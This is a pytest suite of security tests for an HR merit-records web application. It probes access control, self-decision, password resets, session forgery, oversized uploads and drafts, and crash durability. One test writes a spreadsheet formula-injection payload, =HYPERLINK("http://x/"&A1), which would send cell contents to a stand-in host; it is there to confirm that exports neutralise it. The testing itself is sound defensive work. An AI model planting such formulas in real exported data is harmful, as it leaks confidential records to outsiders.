"""What somebody would try who means ill: to read what is another's, to decide the own case, to gain a right, to fill the store, to
stop the service. Each was possible once."""
import csv
import io
import os
import pathlib
import re
import signal
import socket
import sqlite3
import threading
import time

import browser
import merit
import pytest
import requests

PASSWORD = "three-quiet-boats"
TOKEN = re.compile(r'name="form_token" value="([^"]+)"')
OWN = "060000101"  # the file of the demo's employee


class House:
    """The demo with one sealed and one open round, behind a server that may be begun anew."""

    def __init__(self, folder):
        self.store = merit.new("sqlite", folder)
        self.store.must("demo", "--staff", 300)
        self.sealed = self.store.must("round open", "--unit", "MOF", "--as-of", "2008-04-01").strip()
        self.store.must("round seal", self.sealed)
        self.open = self.store.must("round open", "--unit", "MOF", "--as-of", "2008-10-01").strip()
        self.server = browser.Server(self.store)

    @property
    def url(self):
        return self.server.url

    def again(self):
        self.server.stop()
        self.server = browser.Server(self.store)

    def rows(self, sql, *values):
        with sqlite3.connect(f"file:{self.store.where}?mode=ro", uri=True) as db:
            return db.execute(sql, values).fetchall()

    def table(self, entity):
        return list(csv.DictReader(io.StringIO(self.store.must("export", entity))))

    def files(self):
        """People of the open round who have no user, in order."""
        taken = {r["person"] for r in self.table("user_person")}
        sheet = csv.DictReader(io.StringIO(Caller(self, "hr").get(f"/rounds/{self.open}/sheet").text))
        return [r["staff_number"] for r in sheet if r["staff_number"] not in taken]

    def user(self, name, role, *more, person=None):
        """Another user with a password, made at the command line."""
        self.store.must("user add", name, "--name", name.title(), "--role", role, *(["--person", person] if person else []), *more)
        self.store.must("user password", name, "--stdin", input=PASSWORD + "\n")
        return Caller(self, name)


class Caller:
    """One browser: its cookies, and the token of the forms that it was last given."""

    def __init__(self, house, user=None):
        self.house, self.http = house, requests.Session()
        if user:
            assert self.enter(user).headers["Location"] == "/", f"{user} cannot sign in"

    def enter(self, user, **more):
        self.token = TOKEN.search(self.get("/in").text)[1]
        done = self.post("/in", name=user, password=PASSWORD, **more)
        assert done.status_code == 303, done.text[:2000]
        self.token = TOKEN.search(self.get("/settings").text)[1]
        return done

    def get(self, address):
        return self.http.get(self.house.url + address, allow_redirects=False, timeout=60)

    def post(self, address, files=None, **form):
        data = {"form_token": self.token, **form}
        return self.http.post(self.house.url + address, data=data, files=files, allow_redirects=False, timeout=120)

    def program(self, *rights):
        page = self.post("/tokens", name="test", days="1", **{r: "true" for r in rights}).text
        return {"Authorization": "Bearer " + re.search(r'class="code">([^<]+)<', page)[1]}

    def sheet(self, entity, text):
        """Sends a spreadsheet; gives the page on which it is looked at."""
        sent = self.post(f"/upload/{entity}", files={"file": ("sheet.csv", text.encode(), "text/csv")})
        assert sent.status_code == 303, sent.text[:2000]
        return sent.headers["Location"], self.get(sent.headers["Location"]).text


@pytest.fixture(scope="module")
def house(tmp_path_factory):
    house = House(tmp_path_factory.mktemp("attack"))
    yield house
    assert house.server.stop() == 0, house.server.said()


# ---- what is another's ------------------------------------------------------------------------------------------------

DECREE = {"valid_from": "2008-04-01", "rank": "III/c", "decree": "KEP-MINE/1", "proof": "proved"}


def test_what_was_typed_is_shown_to_nobody_else(house):
    """A session ends while somebody types, and the next person signs in at the same browser."""
    clerk, elsewhere = Caller(house, "hr"), Caller(house, "hr")
    assert elsewhere.post("/settings", elsewhere="out").status_code == 303
    led = clerk.post("/enter/rank_history/060000110", **DECREE)
    assert led.status_code == 303 and led.headers["Location"].startswith("/in") and "draft" in clerk.http.cookies
    assert clerk.enter("data").headers["Location"] != "/kept"
    assert "KEP-MINE" not in clerk.get("/kept").text
    assert clerk.enter("hr", shared="true").headers["Location"] == "/kept"
    assert "KEP-MINE" in clerk.get("/kept").text


def test_nobody_fills_the_store_with_invented_sessions(house):
    stranger, before = Caller(house), house.rows("SELECT count(*) FROM kept_form")
    for cookie in ("1.Uz31aqJzmk2Hv_auAyBfx3OsbG9O8fXc3ilvI22kiqw", "1", "x"):
        stranger.http.cookies.set("session", cookie)
        stranger.token = "x" * 64
        led = stranger.post("/enter/rank_history/060000110", **DECREE)
        assert led.status_code == 303 and "draft" not in stranger.http.cookies
    assert house.rows("SELECT count(*) FROM kept_form") == before


def test_nobody_sends_files_without_signing_in(house):
    """Nor programs without a token: what comes is read away, and nothing is kept of it while it comes."""
    host, port = house.url.split("//")[1].split(":")
    spool = pathlib.Path(house.store.side) / "spool"
    head = (f"POST /upload/rating HTTP/1.1\r\nHost: {host}\r\nContent-Type: multipart/form-data; boundary=b\r\n"
            "Content-Length: 9000000\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\r\n")
    with socket.create_connection((host, int(port)), timeout=30) as line:
        line.sendall(head.encode() + b"x" * 4_000_000)
        time.sleep(0.3)
        assert not [f for f in spool.iterdir() if f.name.startswith("sent-")]
    answer = requests.post(house.url + "/api/v1/person/060000101/rating", data=b"{" * 900_000, timeout=30)
    assert answer.status_code == 401 and answer.headers["Content-Type"].startswith("application/problem+json")


def test_a_round_of_others_is_not_there(house):
    """Whoever has a file of their own sees the own case in a round, not the round."""
    units = {u["code"]: u["parent"] for u in house.table("unit")}
    over = lambda unit: [] if not unit else [unit, *over(units.get(unit))]
    far = next(u for u in sorted(units) if "PERS-1A" not in over(u) and u not in over("PERS-1A"))
    other = house.store.must("round open", "--unit", far, "--as-of", "2008-10-01").strip()
    manager = Caller(house, "manager")
    for page in ("", "/check", "/compare", "/sheet", "/proof"):
        assert manager.get(f"/rounds/{other}{page}").status_code in (403, 404), page


def test_a_list_of_rounds_counts_nobody_out_of_reach(house):
    whole, part = (Caller(house, u).get("/rounds").text for u in ("hr", "manager"))
    cells = lambda text: re.findall(r"<td[^>]*>(.*?)</td>", re.search(rf'/rounds/{house.sealed}".*?</tr>', text, re.S)[0], re.S)
    assert cells(whole)[1].strip().isdigit() and cells(part)[1].strip() == "–"


def test_a_check_says_where_only_to_who_may_read_it(house, tmp_path):
    """What was tampered with is named with its values, which may be confidential."""
    for suffix in ("", "-wal"):
        path = pathlib.Path(str(house.store.where) + suffix)
        if path.exists():
            (tmp_path / f"s.db{suffix}").write_bytes(path.read_bytes())
    os.system(f"cp -r {house.store.side} {tmp_path}/s.db.d")
    copy = merit.Store(tmp_path / "s.db", tmp_path / "s.db.d")
    with sqlite3.connect(copy.where) as db:
        db.execute("UPDATE rating SET score = 6000")
    server = browser.Server(copy)
    try:
        told = {}
        for user in ("hr", "auditor"):
            reader = Caller.__new__(Caller)
            reader.house, reader.http = type("At", (), {"url": server.url}), requests.Session()
            reader.enter(user)
            told[user] = reader.get(f"/rounds/{house.sealed}/check").text
        assert "sealed is" in told["hr"]
        assert "sealed is" not in told["auditor"] and "Where, is told to" in told["auditor"]
    finally:
        server.stop()


def test_what_a_program_is_answered_is_noted_too(house):
    """A correction is answered with the whole record, its confidential part with it."""
    hr, number = Caller(house, "hr"), house.files()[0]
    token = hr.program("people", "people_write", "closed")
    ratings = requests.get(f"{house.url}/api/v1/person/{number}/rating", headers=token, timeout=60).json()["items"]
    seen = lambda: house.rows("SELECT count(*) FROM file_read WHERE what = 'rating'")[0][0]
    before = seen()
    answer = requests.post(f"{house.url}/api/v1/person/{number}/rating", headers=token, timeout=60,
                           json={"wrongly": True, "reason": "the day was misread", "_fact": ratings[0]["_fact"], "delivered_on": "2008-01-31"})
    assert answer.status_code == 200 and "score" in answer.json()
    assert seen() == before + 1


def proved_file(house):
    """Somebody of PERS-1A whose every paper was seen."""
    claimed = {r["staff_number"] for e in ("rank_history", "post_history", "status_history", "rating", "exam_result", "course_result", "sanction")
               for r in house.table(e) if r.get("proof", "") in ("", "claimed")}
    inside = set(re.findall(r"/people/(\d+)", Caller(house, "manager").get("/people").text))
    return min(inside - claimed - {OWN})


def told_of_papers(house, user):
    """What the pages and the desk count of facts without paper, and whom they list; by user."""
    reader = Caller(house, user)
    count = lambda page: int(re.search(r"A fact waits for its paper</a></td><td[^>]*>(\d+)", page)[1])
    health = reader.get("/health?unit=PERS-1A").text
    shares = re.findall(r"in percent</dt>\s*<dd>([^<]*)", health)
    desk = int(re.search(r"<strong>(\d+)</strong> <span>A fact waits for its paper", reader.get("/").text)[1])
    assert len(shares) == 2
    return (desk, count(health), tuple(shares), count(reader.get("/health?unit=MOF").text)), \
        set(re.findall(r"/people/(\d+)", reader.get("/health/people?fault=1&unit=PERS-1A").text))


def test_what_lacks_its_paper_tells_nobody_of_a_sanction(house, tmp_path):
    """A new fact without paper is counted with the others, and whoever may not know of sanctions knew of one by the count."""
    number, users = proved_file(house), ("data", "hr")
    before = {user: told_of_papers(house, user) for user in users}
    assert all(number not in people for _, people in before.values())
    sheet = tmp_path / "sanction.csv"
    sheet.write_text(f"staff_number,kind,decided_on,grace_until,decree,proof\n{number},written-warning,2008-09-10,,KEP-X,claimed\n")
    house.store.must("import", "sanction", sheet)
    after = {user: told_of_papers(house, user) for user in users}
    assert after["data"] == before["data"]
    assert after["hr"][1] == before["hr"][1] | {number}
    assert [type(x) is not int or x + 1 == y for x, y in zip(before["hr"][0], after["hr"][0])] == [True] * 4


# ---- the own case, and rights -----------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def candidate(house):
    """Somebody whom the open round considers, with no user yet."""
    return house.files()[0]


def test_nobody_decides_the_own_case(house, candidate, tmp_path):
    """With no right to read the own file either; and nobody for somebody else in theirs."""
    role = tmp_path / "role.csv"
    role.write_text("code,name,names,own,people,people_write,closed,house_write,sheets,round,round_work,decide,figures,audit,users,reset\n"
                    "judge,Judge,,false,true,false,true,false,false,true,false,true,false,false,false,false\n")
    house.store.must("import", "user_role", role)
    judge = house.user("judge", "judge", person=candidate)
    otherwise = f"/rounds/{house.open}/people/{candidate}/otherwise"
    assert judge.get(otherwise).status_code == 403
    assert judge.post(otherwise, outcome="meets", code="court-ruling", reason="mine", who="me").status_code == 403
    assert Caller(house, "decider").get(otherwise).status_code == 200
    assert judge.post("/away", deputy="employee", until="2008-09-20", reason="leave", **{"from": "2008-09-15"}).status_code == 303
    deputy = Caller(house, "employee")
    assert deputy.get(otherwise).status_code == 403
    assert deputy.get(otherwise.replace(candidate, OWN)).status_code in (403, 404)


def test_nobody_writes_into_the_own_file(house):
    number, other = house.files()[:2]
    clerk = house.user("clerk", "hr-officer", person=number)
    assert clerk.get(f"/people/{number}").status_code == 200
    assert clerk.get(f"/enter/rating/{number}").status_code == 404
    assert clerk.post(f"/enter/rank_history/{number}", form_step="save", **DECREE).status_code == 404
    assert clerk.get(f"/enter/rating/{other}").status_code == 200
    token = clerk.program("people", "people_write", "closed")
    fact = {"kind": "oral-reprimand", "decided_on": "2008-09-10", "grace_until": "", "decree": "KEP-9/2008"}
    assert requests.post(f"{house.url}/api/v1/person/{number}/sanction", headers=token, json=fact, timeout=60).status_code == 404
    at, page = clerk.sheet("course_result", f"staff_number,completed_on,course,score,proof\n{number},2008-01-15,DIKLATPIM-IV,90,proved\n")
    assert "nobody writes into the own file" in page
    assert clerk.post(at, form_step="take").status_code == 303
    assert number not in house.store.must("export", "course_result") or "90.00" not in house.store.must("export", "course_result")
    # nor does a deputy for the one who is away
    assert clerk.post("/away", deputy="employee", until="2008-09-20", reason="leave", **{"from": "2008-09-15"}).status_code == 303
    deputy = Caller(house, "employee")
    assert deputy.get(f"/enter/rating/{other}").status_code == 200
    assert deputy.get(f"/enter/rating/{number}").status_code == 404


def test_no_password_for_who_reaches_further(house):
    """Whoever could give it could sign in as that one."""
    inside = {r["staff_number"] for r in csv.DictReader(io.StringIO(Caller(house, "hr.tax").get("/people/sheet").text))}
    files = {r["staff_number"]: r for r in house.table("person")}
    number = sorted(inside - {r["person"] for r in house.table("user_person")})[0]
    house.user("chief", "hr-officer", person=number)
    days = {"born": files[number]["birth_date"], "joined": files[number]["joined_on"], "reason": "forgotten"}
    local = Caller(house, "hr.tax")
    refused = local.post("/duty/reset", person=number, **days)
    assert refused.status_code == 422 and "may do more than you" in refused.text
    assert Caller(house, "hr").post("/duty/reset", person=number, **days).status_code == 200


def test_a_new_letter_ends_every_way_in(house):
    """Sessions and tokens; and its own word soon after it was used."""
    number = house.files()[0]
    person = house.user("lost", "employee", person=number)
    token = person.program("own")
    mine = lambda: requests.get(f"{house.url}/api/v1/person/{number}", headers=token, timeout=60).status_code
    assert mine() == 200
    file = next(r for r in house.table("person") if r["staff_number"] == number)
    page = Caller(house, "hr").post("/duty/reset", person=number, born=file["birth_date"], joined=file["joined_on"], reason="lost").text
    word = re.search(r"<code>([A-Z0-9]{5}-[A-Z0-9]{5})</code>", page)[1]
    assert mine() == 401 and person.get("/settings").status_code == 303
    person.token = TOKEN.search(person.get("/activate").text)[1]
    assert person.post("/activate", name="lost", word=word).headers["Location"] == "/password"
    ends = house.rows("SELECT p.ends FROM user_password p JOIN merit_user u ON u.id = p.account WHERE u.code = 'lost'")[0][0]
    assert ends <= (time.time() + 3700) * 1_000_000


def test_a_deputy_gives_nothing_to_whom_the_right_comes_from(house):
    admin = Caller(house, "admin")
    assert admin.post("/away", deputy="employee", until="2008-09-20", reason="leave", **{"from": "2008-09-15"}).status_code == 303
    deputy = Caller(house, "employee")
    assert deputy.get("/duty/user/admin").status_code == 200
    assert deputy.post("/duty/user/admin", give="duty", role="decider", **{"from": "2008-09-15"}).status_code == 403
    assert deputy.post("/duty/user/employee", give="duty", role="decider", **{"from": "2008-09-15"}).status_code == 403
    number = re.search(r'name="end" value="(\d+)"', admin.get("/away").text)[1]
    assert admin.post("/away", end=number).status_code == 303
    assert deputy.get("/duty/user/admin").status_code == 403, "what was handed over ended in the middle of a session"


def test_a_shared_computer_prolongs_no_session(house):
    visitor = Caller(house)
    visitor.enter("employee", shared="true")
    ends = lambda: max(r[0] for r in house.rows(
        "SELECT s.ends FROM user_session s JOIN merit_user u ON u.id = s.account WHERE u.code = 'employee' AND s.shared = 1"))
    before = ends()
    time.sleep(0.05)
    assert visitor.post("/settings", lang="en", shared="true").status_code == 303
    assert ends() == before


# ---- the service ------------------------------------------------------------------------------------------------------

def test_no_forms_without_number(house):
    """All that a user has not finished is read for the desk: it must not be more than a page may take."""
    employee = Caller(house, "employee")
    for i in range(85):
        kept = employee.post("/draft", form_path=f"/enter/rating/{i}", note="x" * 880_000)
        assert kept.status_code == 303, (i, kept.status_code)
    assert employee.get("/").status_code == 200
    assert house.rows("SELECT sum(length(form)) FROM draft")[0][0] <= 5_000_000
    for i in range(60):
        employee.post("/draft", form_path=f"/enter/rating/{i}", note="short")
    assert house.rows("SELECT count(*) FROM draft")[0][0] <= 50


def test_what_is_typed_is_no_formula(house):
    """In a spreadsheet it stands as text, and comes back as it was."""
    hr, number, evil = Caller(house, "hr"), house.files()[0], "=HYPERLINK(\"http://x/\"&A1)"
    token = hr.program("people", "people_write")
    facts = requests.get(f"{house.url}/api/v1/person/{number}/rank_history", headers=token, timeout=60).json()["items"]
    changed = requests.post(f"{house.url}/api/v1/person/{number}/rank_history", headers=token, timeout=60,
                            json={"wrongly": True, "reason": "misread", "_fact": facts[0]["_fact"], "decree": evil})
    assert changed.status_code == 200, changed.text
    sheet = hr.get("/sheet/rank_history").text
    cells = [c for row in csv.reader(io.StringIO(sheet)) for c in row]
    assert "'" + evil in cells and not [c for c in cells if c[:1] in "=+@" and c[:1]]
    head, *rows = sheet.splitlines()
    _, page = hr.sheet("rank_history", "\n".join([head, *(r for r in rows if r.startswith(number))]) + "\n")
    assert re.search(r"As they stand</dt><dd>\d", page), page[:3000]


def test_a_spreadsheet_without_end_is_refused(house):
    """Some hundred thousand columns; everybody else is served meanwhile."""
    hr = Caller(house, "hr")
    began = time.monotonic()
    _, page = hr.sheet("rating", ",".join(f"h{i}" for i in range(300_000)) + "\n")
    assert "1000 are the most" in page or "1,000 are the most" in page
    assert time.monotonic() - began < 60


def test_who_verifies_everything_stops_nobody(house):
    """Others save meanwhile, and what they save is neither waited for nor found to be wrong."""
    auditor, stop, saved = Caller(house, "auditor"), threading.Event(), []
    token, files = Caller(house, "hr").program("people", "people_write", "closed"), house.files()

    def write(n):
        for i in range(2000):
            if stop.is_set():
                return
            day = f"200{7 + i // 168 % 2}-{i // 28 % 6 + 1:02}-{i % 28 + 1:02}"
            answer = requests.post(f"{house.url}/api/v1/person/{files[n * 20 + i // 336]}/sanction", headers=token, timeout=60,
                                   json={"kind": "oral-reprimand", "decided_on": day, "decree": f"V-{n}/{i}"})
            assert answer.status_code == 201, answer.text
            saved.append(time.monotonic())

    writer = threading.Thread(target=write, args=(1,))
    writer.start()
    meanwhile = []
    try:
        for _ in range(6):
            before = len(saved)
            done = auditor.post("/proof")
            meanwhile.append(len(saved) - before)
            assert done.status_code == 303, done.text[:2000]
            assert "every fact, receipt and signature is sound" in auditor.get("/proof").text
    finally:
        stop.set()
        writer.join()
    assert max(meanwhile) > 2, "they waited for the verifying to end"


def test_a_server_that_is_killed_loses_nothing_that_it_said_was_saved(house):
    stop, saved, lost = threading.Event(), [], []

    def write(name, numbers):
        try:
            hr = Caller(house, "hr")
            token = hr.program("people", "people_write", "closed")
            for i in range(400):
                if stop.is_set():
                    return
                decree = f"KILL-{name}/{i}"
                answer = requests.post(f"{house.url}/api/v1/person/{numbers[i % len(numbers)]}/sanction", headers=token, timeout=20,
                                       json={"kind": "oral-reprimand", "decided_on": f"200{i // 100}-{i % 12 + 1:02}-{i % 28 + 1:02}", "decree": decree})
                if answer.status_code == 201:
                    saved.append(decree)
                hr.post("/draft", form_path=f"/enter/rating/{numbers[i % 9]}", note=f"draft {decree}")
                lost.append(f"draft {decree}")
        except requests.RequestException:
            return

    files = house.files()
    writers = [threading.Thread(target=write, args=(n, files[n * 20:n * 20 + 20])) for n in range(3)]
    for w in writers:
        w.start()
    while len(saved) < 40 and any(w.is_alive() for w in writers):
        time.sleep(0.01)
    os.kill(house.server.process.pid, signal.SIGKILL)
    stop.set()
    for w in writers:
        w.join()
    assert len(saved) >= 40
    house.again()
    kept = house.store.must("export", "sanction")
    assert not [d for d in saved if d not in kept]
    assert "every row, entry and checkpoint verifies" in house.store.must("verify")
    drafts = "".join(r[0] for r in house.rows("SELECT form FROM draft"))
    assert lost[-1].split("/")[0].replace("draft ", "") in drafts and "KILL-" in Caller(house, "hr").get("/draft").text + drafts
